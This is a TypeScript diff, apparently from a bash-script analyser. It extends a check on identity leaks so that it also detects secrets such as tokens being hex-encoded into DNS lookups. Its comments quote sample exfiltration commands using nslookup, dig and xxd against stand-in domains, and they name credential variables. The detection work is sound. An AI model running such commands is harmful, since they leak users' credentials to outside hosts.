@@ -37,6 +37,7 @@ import { expandCode, expandShellCode, taintArgv, taintEnvReads, type Taint } fro
 import { parseScript } from './syntax.js';
 import { UNKNOWN, normPath, type Val } from './values.js';
 import { IDENTITY_COMMAND, IDENTITY_ENV } from '../code/value.js';
+import { secretName } from '../../capabilities/clients.js';
 
 interface Hit {
   fact: CmdFact;
@@ -353,17 +354,40 @@ export class BashRun {
   }
 
   /**
-   * The command sends the user's or machine's identity: a name it resolves has it in the labels
-   * left of a constant domain (`nslookup $(whoami).x.example`), or an HTTP client's URL or
-   * request body holds it.
+   * A value holds a secret the environment gives the script (`$GITHUB_TOKEN`, `$AWS_SECRET_ACCESS_KEY`,
+   * a name of the issuer table or one that looks like a secret), directly or through the commands
+   * whose output it is (`$(printf %s "$NPM_TOKEN" | xxd -p)`); the script's own variables and the
+   * working directory (`$PWD`) do not count. Credential files are bash-exfiltration's flow sources.
    */
-  sendsIdentity(f: CmdFact): boolean {
+  private hasSecretVar(v: Val): boolean {
+    const assigned = this.facts.script.assigned;
+    const secret = (n: string) => !/^(?:OLD)?PWD$/.test(n) && !assigned.has(n) && secretName(n);
+    const holds = (a: Val) => a.vars.some(secret) || [...(a.deep ?? [])].some(secret);
+    if (holds(v)) return true;
+    for (const s of this.flow.val(v)) {
+      const g = this.flow.fact(s);
+      if (g && [...g.args, ...(g.inputVal ? [g.inputVal] : [])].some(holds)) return true;
+    }
+    return false;
+  }
+
+  /**
+   * The command sends `kind` of data: the user's or machine's identity in a name it resolves (the
+   * labels left of a constant domain, `nslookup $(whoami).x.example`) or in an HTTP client's URL
+   * or request body; a secret only in a name it resolves (`dig "$(printf %s "$TOKEN" | xxd -p).x.
+   * example"`), since a token in an HTTP request is how APIs authenticate, while a name to look up
+   * needs none.
+   */
+  sends(f: CmdFact, kind: 'identity' | 'secret'): boolean {
+    const has = (v: Val) => (kind === 'identity' ? this.hasIdentity(v) : this.hasSecretVar(v));
     // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
     let viaStdin: boolean | undefined;
-    const stdinIdentity = () =>
+    const stdinCarries = () =>
       (viaStdin ??= [...this.flow.stdin(f)].some((s) => {
         const g = this.flow.fact(s);
-        return g !== undefined && this.isIdentitySource(g);
+        if (!g) return false;
+        if (kind === 'identity') return this.isIdentitySource(g);
+        return [...g.args, ...(g.inputVal ? [g.inputVal] : [])].some((a) => this.hasSecretVar(a));
       }));
     for (const p of f.positional) {
       const placeholder = f.stdinAsArgs && /\{\}|%/.test(p.s);
@@ -374,11 +398,11 @@ export class BashRun {
         .split(/[/:?#\s]/)[0] as string;
       if (
         /\u0001[^\u0001]*\.[^.\u0001]+\.[^.\u0001]+\.?$/.test(host) &&
-        (this.hasIdentity(p) || (placeholder && stdinIdentity()))
+        (has(p) || (placeholder && stdinCarries()))
       )
         return true;
     }
-    if (!HTTP_CLIENTS.has(f.fam)) return false;
+    if (kind === 'secret' || !HTTP_CLIENTS.has(f.fam)) return false;
     const sent = [
       ...f.positional.filter((p) => /^(?:https?:\/\/|\u0001)/i.test(p.s) || /[=@]/.test(p.s)),
       ...HTTP_SENT.flatMap((k) => f.opts.get(k) ?? []),
@@ -1086,7 +1110,7 @@ function planFor(m: BashMatch): Plan {
     const declares = m.command.declares?.includes('env');
     const notDeclares = m.command.notDeclares?.includes('env');
     const notAfter = m.command.notAfter ? commandMatcher({ args: m.command.notAfter }) : undefined;
-    const carries = m.command.carries?.includes('identity');
+    const carries = m.command.carries?.filter((k) => k === 'identity' || k === 'secret');
     const agentJob = m.command.agentJob;
     const client = m.command.client?.includes('issuer')
       ? true
@@ -1100,7 +1124,7 @@ function planFor(m: BashMatch): Plan {
       if (declares) hits = hits.filter((h) => run.rcEnv.content(h.fact) === 'env');
       if (notDeclares) hits = hits.filter((h) => run.rcEnv.content(h.fact) === undefined);
       if (notAfter) hits = hits.filter((h) => !run.followsSameSubject(h.fact, notAfter));
-      if (carries) hits = hits.filter((h) => run.sendsIdentity(h.fact));
+      if (carries?.length) hits = hits.filter((h) => carries.some((k) => run.sends(h.fact, k)));
       if (agentJob) hits = hits.filter((h) => agentJob.includes(run.agentJob(h.fact) ?? ''));
       if (client !== undefined) hits = hits.filter((h) => run.issuerClient(h.fact) === client);
       return hits;
